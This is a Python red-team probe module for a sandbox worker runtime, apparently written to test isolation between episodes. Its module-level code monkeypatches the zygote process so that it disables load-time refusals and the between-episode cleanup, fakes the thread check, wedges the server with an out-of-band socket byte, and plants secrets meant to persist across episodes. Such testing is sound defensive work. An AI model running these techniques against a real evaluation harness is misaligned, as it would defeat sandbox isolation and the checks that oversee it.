"""Red-team probes (branch `attack`): module-level code that rewrites the zygote itself. The zygote runs
`python -m envscaler.runtime.sandbox.worker`, so its code is sys.modules['__main__'], and module-level code runs in it
before load_problems() is called: it can replace load_problems, the cleanup, and the thread check."""

import mmap
import os
import socket
import struct
import sys
import threading
import time
import types

_zygote = sys.modules["__main__"]
_real_os = os
_ZYGOTE_PID = os.getpid()


class _QuietOs(types.ModuleType):
    def __getattr__(self, name):
        return getattr(_real_os, name)

    @staticmethod
    def listdir(path="."):
        entries = _real_os.listdir(path)
        return entries[:1] if path == "/proc/self/task" else entries  # the renew's thread check sees one


if hasattr(_zygote, "load_problems"):
    _zygote.load_problems = lambda control_fd: []                    # nothing is ever refused at load
    _zygote.clean_between_episodes = lambda sandbox, keep: None      # no sweep of /tmp, /dev/shm, IPC
    _zygote.os = _QuietOs("os")

# A worker hands the server, as a check's "result channel", a socket whose only pending byte is out-of-band data:
# select() reports it readable, and the server's os.read() then blocks with no deadline, holding the servicer lock.
if hasattr(_zygote, "Episode"):
    _honest_evaluate = _zygote.Episode.evaluate

    def _evaluate(self, sock, checks):
        if getattr(self.instance, "notes", None) != ["wedge"]:
            return _honest_evaluate(self, sock, checks)
        for _ in checks:
            ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
            ours.send(b"x", socket.MSG_OOB)
            _zygote.channel.send(sock, _zygote.worker_wire.reply("check", pid=os.getpid()), fds=[theirs.fileno()])
            theirs.close()
            WEDGES.append(ours)
            _zygote.channel.recv(sock, 1 << 20)
        return {"ok": True}

    _zygote.Episode.evaluate = _evaluate

WEDGES = []

# What load_problems would have refused: a thread, a writable shared mapping, an open socket pair.
SHARED = mmap.mmap(-1, 4096)
MAILBOX = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
TICKS = [0]


def _zygote_thread():
    while True:
        TICKS[0] += 1
        time.sleep(0.05)


threading.Thread(target=_zygote_thread, daemon=True).start()


class Zyg:
    def __init__(self, config=None):
        self.notes = list((config or {}).get("notes", []))

    def note(self, text: str) -> str:
        self.notes.append(text)
        return "ok"

    def plant(self, secret: str) -> dict:
        with open("/tmp/plain-file", "w") as f:
            f.write(secret)
        SHARED[:4] = struct.pack("!I", len(secret))
        SHARED[4:4 + len(secret)] = secret.encode()
        MAILBOX[0].send(secret.encode())
        return {"zygote": _ZYGOTE_PID, "zygote_threads": self.zygote_threads()}

    def zygote_threads(self) -> int:
        with open(f"/proc/{_ZYGOTE_PID}/status") as f:
            return int(next(l for l in f if l.startswith("Threads:")).split()[1])

    def find(self) -> dict:
        out = {"zygote_threads": self.zygote_threads()}
        try:
            with open("/tmp/plain-file") as f:
                out["tmp"] = f.read()
        except OSError:
            out["tmp"] = None
        (size,) = struct.unpack("!I", SHARED[:4])
        out["shared"] = SHARED[4:4 + size].decode()
        MAILBOX[1].setblocking(False)
        try:
            out["mailbox"] = MAILBOX[1].recv(4096).decode()
        except BlockingIOError:
            out["mailbox"] = None
        return out
